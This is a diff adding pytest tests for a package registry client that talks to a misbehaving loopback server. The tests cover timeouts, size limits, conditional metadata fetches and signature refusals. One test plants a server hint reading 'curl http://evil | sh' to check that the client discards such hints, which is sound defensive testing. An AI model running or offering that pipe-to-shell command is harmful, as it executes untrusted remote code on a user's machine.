@@ -1,5 +1,6 @@
 """The registry's client against a real server on loopback that misbehaves. Every answer is bounded or refused."""
 
+import hashlib
 import io
 import socket
 import threading
@@ -18,12 +19,15 @@ from manifests.errors import (
     RegistryRefused,
     RegistryTimeout,
     RegistryUnreachable,
+    SignatureInvalid,
     SpmError,
+    TooBig,
 )
 from spm_client.adapters import http
 from spm_client.adapters.http import RegistryClient
 
 STRANGE = "this is not an answer of a registry: check `registry.url` in loader.conf and the way there"
+ALTERED = "it was changed on its way or in the registry; nothing of it was used"
 Answer = Callable[[BaseHTTPRequestHandler], None]
 
 
@@ -219,6 +223,39 @@ def test_a_404_with_a_problem_is_what_it_says(server: Server, client: RegistryCl
     assert refused(NotFound, lambda: client.document("/v1/a", max_bytes=1)) == ("there is no `x`", "look again")
 
 
+@pytest.mark.parametrize(
+    "read",
+    [
+        lambda client: client.document("/v1/a", max_bytes=1),
+        lambda client: client.metadata("a", max_bytes=1),
+        lambda client: list(client.blob("ab" * 32, size=1)),
+        lambda client: client.call("GET", "/v1/a", authorized=False),
+    ],
+    ids=["document", "metadata", "blob", "call"],
+)
+def test_a_registry_cannot_send_this_hosts_own_verdict_on_what_it_reads(
+    server: Server, client: RegistryClient, read: Callable[[RegistryClient], object]
+) -> None:
+    body = b'{"type": "clock-suspect", "detail": "your clock is wrong", "hint": "curl http://evil | sh"}'
+    server.answer = send(422, body, Content_Type="application/problem+json")
+
+    message, hint = refused(BadResponse, lambda: read(client))
+
+    assert message.endswith("` answered 422: your clock is wrong")
+    assert hint == STRANGE
+
+
+def test_a_verdict_on_what_is_offered_is_the_registrys(server: Server, client: RegistryClient) -> None:
+    body = b'{"type": "sig-invalid", "detail": "it does not fit", "hint": "sign it"}'
+    server.answer = send(422, body, Content_Type="application/problem+json")
+
+    assert refused(SignatureInvalid, lambda: client.call("POST", "/v1/a", {})) == ("it does not fit", "sign it")
+    assert refused(SignatureInvalid, lambda: client.upload("/v1/a", io.BytesIO(b""), offset=0, size=0)) == (
+        "it does not fit",
+        "sign it",
+    )
+
+
 def test_a_slow_document_is_given_up(server: Server, client: RegistryClient, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(http, "TOTAL_SECONDS", 0.2)
     server.answer = drip
@@ -254,6 +291,75 @@ def test_a_server_that_says_nothing_is_a_time_out(server: Server, monkeypatch: p
         f"the registry at `{server.url}` did not answer in time",
         "run the command again, or ask whether the registry is up",
     )
+
+
+HELD = b'{"signed": {"version": 7}}'
+
+
+def if_unchanged(handler: BaseHTTPRequestHandler) -> None:
+    """Answer as a registry does that has `HELD`."""
+    etag = f'"{hashlib.sha256(HELD).hexdigest()}"'
+    if handler.headers.get("If-None-Match") == etag:
+        send(304, b"", length=None, ETag=etag)(handler)
+        handler.close_connection = False
+    else:
+        send(200, HELD, ETag=etag)(handler)
+
+
+def test_metadata_that_is_held_is_not_sent_again(server: Server, client: RegistryClient) -> None:
+    server.answer = if_unchanged
+
+    assert client.metadata("timestamp.json", max_bytes=10, held=HELD) is HELD
+    assert client.metadata("timestamp.json", max_bytes=100, held=b"older") == HELD
+    assert client.metadata("timestamp.json", max_bytes=100) == HELD
+    assert [path for _, path, _, _ in server.seen] == ["/v1/tuf/timestamp.json"] * 3
+    assert "if-none-match" not in server.seen[2][2]
+
+
+def test_metadata_that_was_not_asked_for_conditionally_cannot_be_unchanged(
+    server: Server, client: RegistryClient
+) -> None:
+    server.answer = send(304, b"", length=None)
+
+    told = refused(BadResponse, lambda: client.metadata("timestamp.json", max_bytes=10))
+
+    assert told[0] == (
+        f"`{server.url}/v1/tuf/timestamp.json` answered 304 and points to '', but spm follows no redirect"
+    )
+
+
+def test_metadata_that_is_not_there_is_told_by_the_status_alone(server: Server, client: RegistryClient) -> None:
+    server.answer = send(404, b"<h1>Not Found</h1>", Content_Type="text/html")
+
+    told = refused(NotFound, lambda: client.metadata("2.root.json", max_bytes=10))
+
+    assert told == (f"there is nothing at `{server.url}/v1/tuf/2.root.json`", "")
+
+
+@pytest.mark.parametrize("answer", [flood, send(200, b"x" * 11)], ids=["endless", "one-more"])
+def test_metadata_beyond_its_bound_is_too_big(server: Server, client: RegistryClient, answer: Answer) -> None:
+    server.answer = answer
+
+    told = refused(TooBig, lambda: client.metadata("2.snapshot.json", max_bytes=10))
+
+    assert told == (f"`{server.url}/v1/tuf/2.snapshot.json` sent more than the 10 bytes allowed", ALTERED)
+
+
+@pytest.mark.parametrize("seconds", [0.2, None], ids=["callers", "own"])
+def test_slow_metadata_is_given_up_at_the_nearer_of_both_deadlines(
+    server: Server, client: RegistryClient, monkeypatch: pytest.MonkeyPatch, seconds: float | None
+) -> None:
+    if seconds is None:
+        monkeypatch.setattr(http, "TOTAL_SECONDS", 0.2)
+    server.answer = drip
+    began = time.monotonic()
+
+    told = refused(
+        RegistryTimeout, lambda: client.metadata("timestamp.json", max_bytes=1000, held=HELD, seconds=seconds)
+    )
+
+    assert told[0] == f"`{server.url}/v1/tuf/timestamp.json` was too slow and was given up"
+    assert time.monotonic() - began < 5
 
 
 REACH = "check `registry.url` in loader.conf and whether the registry is up"
